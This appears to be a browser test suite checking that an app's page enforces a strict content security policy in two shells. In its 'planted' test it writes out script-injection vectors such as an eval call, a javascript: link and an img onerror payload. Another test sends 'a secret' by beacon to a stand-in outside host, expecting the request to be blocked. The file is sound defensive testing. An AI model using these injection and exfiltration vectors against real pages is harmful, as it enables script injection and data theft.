/** The page in both shells: what it is served with, and what a script that got into it could do. */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Browser, chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findBrowser, runsAsRoot } from '../../loopback/browser.ts';
import { type Desk, type ShellName, startShell } from '../journeys/shell.ts';
import { ensureBuilt } from './built.ts';

let browser: Browser;
beforeAll(async () => {
  await ensureBuilt();
  const executablePath = findBrowser();
  if (!executablePath) throw new Error('no Chromium here: name one in FENGQIAO_CHROMIUM');
  browser = await chromium.launch({ executablePath, chromiumSandbox: !runsAsRoot });
});
afterAll(() => browser?.close());

describe.each(['loopback', 'electron-double'] satisfies ShellName[])('the page in the shell %s', (shell) => {
  let folder: string;
  let desk: Desk;
  const faults: string[] = [];
  beforeAll(async () => {
    folder = mkdtempSync(join(tmpdir(), 'page-'));
    desk = await startShell(shell, folder, browser);
    desk.page.on('pageerror', (error) => faults.push(String(error)));
    desk.page.on('console', (message) => message.type() === 'error' && faults.push(message.text()));
    await desk.page.reload();
    await desk.page.locator('h1').first().waitFor();
  });
  afterAll(async () => {
    await desk?.close();
    rmSync(folder, { recursive: true, force: true });
  });

  it('shows the first set-up without a complaint of the browser', () => {
    expect(faults).toEqual([]);
  });

  it('is served with a policy that lets in our own files only', async () => {
    const headers = await desk.page.evaluate(async () => {
      const answer = await fetch('/desk.html');
      return Object.fromEntries(answer.headers);
    });
    const policy = (headers['content-security-policy'] ?? '').replace(/'nonce-[^']+'/, 'NONCE').split('; ');
    expect(policy).toEqual([
      "default-src 'none'",
      "script-src 'self'",
      "style-src 'self' NONCE",
      "img-src 'self' blob:",
      "font-src 'self'",
      "connect-src 'self'",
      "worker-src 'self'",
      "object-src 'none'",
      "base-uri 'none'",
      "form-action 'none'",
      "frame-ancestors 'none'",
      "require-trusted-types-for 'script'",
      'trusted-types default pdf-worker',
    ]);
    expect(headers).toMatchObject({
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cross-origin-opener-policy': 'same-origin',
    });
  });

  it('gives every load another nonce', async () => {
    const nonces = await desk.page.evaluate(async () => {
      const policies = await Promise.all(
        [1, 2].map(async () => (await fetch('/desk.html')).headers.get('content-security-policy')),
      );
      return policies.map((policy) => /'nonce-([^']+)'/.exec(policy ?? '')?.[1]);
    });
    expect(nonces[0]).toMatch(/^[\w+/=]{24}$/);
    expect(nonces[1]).not.toBe(nonces[0]);
  });

  it('runs no script that is planted, and no text as code', async () => {
    const outcome = await desk.page.evaluate(async () => {
      const ran: string[] = [];
      Object.assign(window, { planted: (way: string) => ran.push(way) });
      const tries: Record<string, () => unknown> = {
        // biome-ignore lint/security/noGlobalEval: the policy must stop it
        eval: () => globalThis.eval("planted('eval')"),
        function: () => new Function("planted('function')")(),
        timer: () => (setTimeout as (code: unknown) => void)("planted('timer')"),
        inline: () => {
          const script = document.createElement('script');
          script.append("planted('inline')");
          document.body.append(script);
        },
        data: () => {
          const script = document.createElement('script');
          script.setAttribute('src', "data:text/javascript,planted('data')");
          document.body.append(script);
        },
        attribute: () => {
          const button = document.createElement('button');
          button.setAttribute('onclick', "planted('attribute')");
          button.click();
        },
        link: () => {
          const link = document.createElement('a');
          link.setAttribute('href', "javascript:planted('link')");
          document.body.append(link);
          link.click();
        },
        markup: () =>
          document.body.insertAdjacentHTML('beforeend', `<img src=x onerror="planted('markup')">`),
        worker: () => new Worker('data:text/javascript,postMessage(1)'),
      };
      // The debugger's own call may evaluate text; what comes after it may not.
      await new Promise((done) => setTimeout(done));
      for (const attempt of Object.values(tries)) {
        try {
          await attempt();
        } catch {
          // A refusal that throws is as good as one that does not.
        }
      }
      await new Promise((done) => setTimeout(done, 300));
      return ran;
    });
    expect(outcome).toEqual([]);
  });

  it('reaches no other place, whatever a script in it asks for', async () => {
    const reached = await desk.page.evaluate(async () => {
      const outcomes = await Promise.allSettled([
        fetch('https://example.invalid/'),
        fetch('http://127.0.0.1:9/'),
      ]);
      navigator.sendBeacon('https://example.invalid/', 'a secret');
      const blocked: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
      const image = new Image();
      image.src = 'https://example.invalid/picture';
      const socket = (() => {
        try {
          return new WebSocket('ws://127.0.0.1:9/');
        } catch {
          return undefined;
        }
      })();
      await new Promise((done) => setTimeout(done, 300));
      socket?.close();
      return {
        fetched: outcomes.map(({ status }) => status),
        blocked: [...new Set(blocked)].sort(),
      };
    });
    expect(reached).toEqual({ fetched: ['rejected', 'rejected'], blocked: ['connect-src', 'img-src'] });
  });

  it('holds nothing of Node and only the bridge of its shell', async () => {
    const found = await desk.page.evaluate(() =>
      [
        'require',
        'process',
        'module',
        'Buffer',
        'global',
        '__dirname',
        'electron',
        'ipcRenderer',
        'desk',
      ].filter((name) => name in window),
    );
    expect(found).toEqual(shell === 'loopback' ? [] : ['desk']);
  });
});
